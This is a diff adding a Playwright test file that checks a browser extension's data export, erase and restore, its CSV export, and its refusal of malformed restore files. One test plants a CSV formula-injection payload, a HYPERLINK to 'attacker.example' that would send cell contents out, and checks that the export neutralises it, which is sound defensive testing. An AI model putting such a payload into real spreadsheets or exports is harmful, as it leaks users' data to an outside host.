@@ -1,0 +1,106 @@
+import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, type Page, test } from '@playwright/test';
+import { z } from 'zod';
+import { openWorkbench, type Workbench } from '../support/workbench.ts';
+import { OptionsPage } from './pages/options.ts';
+
+const LONG_MS = 60_000;
+
+let bench: Workbench;
+test.beforeAll(async () => {
+  bench = await openWorkbench();
+});
+test.afterAll(() => bench?.close());
+
+const options = async () => new OptionsPage(await bench.newPage(), bench.extensionId);
+
+/** Presses a button and waits for the file it makes. */
+async function download(page: Page, button: string): Promise<{ name: string; path: string }> {
+  const [file] = await Promise.all([
+    page.waitForEvent('download', { timeout: LONG_MS }),
+    page.getByRole('button', { name: button }).click(),
+  ]);
+  return { name: file.suggestedFilename(), path: await file.path() };
+}
+
+const summarySchema = z.looseObject({ status: z.string(), summary: z.looseObject({}).optional() });
+
+/** What the popup shows, and what the dashboard does of channels and partners. */
+async function figures(): Promise<unknown> {
+  const { summary, ...rest } = summarySchema.parse(await bench.ask('summary.get', {}));
+  return {
+    ...rest,
+    // When they were computed is no part of them.
+    summary: { ...summary, computedAt: undefined },
+    channels: await bench.ask('subjects.list', { kind: 'channel' }),
+    partners: await bench.ask('subjects.list', { kind: 'partner' }),
+  };
+}
+
+test('everything is exported, erased and brought back: the figures are the same', async () => {
+  const page = await options();
+  await page.loadSample();
+  await expect
+    .poll(async () => JSON.stringify(await bench.ask('summary.get', {})), { timeout: LONG_MS })
+    .toContain('"ok"');
+  const before = await figures();
+
+  await page.goto('data');
+  const { name, path } = await download(page.page, 'Export everything');
+  expect(name).toMatch(/^channelwise-\d{4}-\d\d-\d\d\.jsonl$/);
+  const text = await readFile(path, 'utf8');
+  const [header = '', ...lines] = text.trimEnd().split('\n');
+  const counts: Record<string, number> = JSON.parse(header).counts;
+  expect(Object.values(counts).reduce((sum, count) => sum + count, 0)).toBe(lines.length);
+  expect(lines.length).toBeGreaterThan(1000);
+  // Not while something is stored.
+  await expect(page.page.getByLabel('Restore from an export')).toHaveCount(0);
+
+  await page.eraseAll();
+  expect(await figures()).toMatchObject({ status: 'empty', channels: [], partners: [] });
+
+  await page.page.getByLabel('Restore from an export').setInputFiles(path);
+  await expect(page.page.getByText(`${lines.length.toLocaleString('en-US')} records have been restored`)).toBeVisible({
+    timeout: LONG_MS,
+  });
+  expect(await figures()).toEqual(before);
+
+  const again = await download(page.page, 'Export everything');
+  const [, ...same] = (await readFile(again.path, 'utf8')).trimEnd().split('\n');
+  expect(same).toEqual(lines);
+});
+
+test('the accounts as CSV hold a hostile name as harmless text', async () => {
+  const page = await options();
+  await page.eraseAll();
+  const hostile = '=HYPERLINK("http://attacker.example/?"&A1,"报价")';
+  const file = join(await mkdtemp(join(tmpdir(), 'channelwise-own-')), 'customers.csv');
+  await writeFile(file, `Customer ID,Customer Name\n1,"${hostile.replaceAll('"', '""')}"\n2,Acme\n`);
+  await page.importFiles([file]);
+  await page.goto('data');
+  await page.page.getByLabel('Table').selectOption('accounts');
+  const { name, path } = await download(page.page, 'Export a table as CSV');
+  expect(name).toMatch(/^channelwise-accounts-.*\.csv$/);
+  const csv = await readFile(path, 'utf8');
+  expect(csv.startsWith('\uFEFF')).toBe(true);
+  expect(csv).toContain(`,"'${hostile.replaceAll('"', '""')}",`);
+  expect(csv).not.toMatch(/(^|,)"?=/m);
+});
+
+test('a file that is no export is refused, and nothing of it stays', async () => {
+  const page = await options();
+  await page.eraseAll();
+  const damaged =
+    '{"format":"channelwise-export","version":1,"exportedAt":"2026-11-22T00:00:00.000Z","counts":{}}\nnonsense\n';
+  for (const [content, says] of [
+    ['id,name\n1,Acme\n', /not a file made by/],
+    [damaged, /line 2 cannot be read/],
+  ] as const) {
+    const file = { name: 'some.jsonl', mimeType: 'application/x-ndjson', buffer: Buffer.from(content) };
+    await page.page.getByLabel('Restore from an export').setInputFiles(file);
+    await expect(page.page.getByRole('alert').getByText(says)).toBeVisible();
+  }
+  expect(await bench.ask('connections.list', {})).toEqual([]);
+});
